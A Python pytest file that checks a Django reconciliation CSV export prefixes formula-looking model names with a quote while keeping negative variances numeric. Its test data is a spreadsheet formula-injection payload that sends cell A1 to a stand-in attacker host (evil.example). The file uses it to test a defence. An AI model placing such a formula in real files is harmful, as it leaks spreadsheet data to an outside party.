"""The reconciliation export cannot run a formula: model names come from usage files and invoices, but the
variances (negative when the bill is below the estimate) stay numbers a spreadsheet can sum."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django_scopes import scope

from apps.reconciliation.services import reconciliation_run_create
from tests.factories.invoices import InvoiceLineFactory, ProviderInvoiceFactory
from tests.factories.usage import DailyUsageFactory

from .conftest import OCT

pytestmark = pytest.mark.django_db

MODEL = '=HYPERLINK(CONCAT("http://evil.example/?",A1),"gpt")'
G = 1_000_000_000


def test_a_hostile_model_name_is_neutralised_and_a_negative_variance_stays_a_number(world):
    organization = world.org("a")
    with scope(organization=organization):
        DailyUsageFactory(organization=organization, model=MODEL, cost_input_nano=10 * G)
        invoice = ProviderInvoiceFactory(organization=organization, provider="openai", billing_period=OCT)
        InvoiceLineFactory(invoice=invoice, model=MODEL, model_raw=MODEL, amount_nano=7_500_000_000)
    run = reconciliation_run_create(organization=organization, period=OCT, actor=None)

    response = world.login("a", "viewer").get(
        reverse("reconciliation:run_export", kwargs={"org_slug": "alpha", "pk": run.pk})
    )

    assert response.status_code == 200
    text = response.content.decode()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    model_line = next(row for row in rows if row["level"] == "model")
    assert model_line["key"] == "'" + MODEL
    assert (model_line["estimated"], model_line["invoiced"], model_line["variance"]) == (
        "10.000000000",
        "7.500000000",
        "-2.500000000",
    )
    assert model_line["variance_pct"] == "-33.33"
    # In the file the key is quoted text behind its quote, the amounts bare numbers.
    assert '"\'=HYPERLINK(CONCAT(""http://evil.example/?"",A1),""gpt"")","USD",10.000000000,7.500000000,' in text
    assert ",-2.500000000,-33.33," in text
    provider_line = next(row for row in rows if row["level"] == "provider")
    assert Decimal(provider_line["variance"]) == Decimal("-2.5")
    for row in rows:
        for column in ("provider", "key", "note", "level", "period"):
            assert row[column][:1] not in ("=", "+", "-", "@", "\t", "\r", "\n")
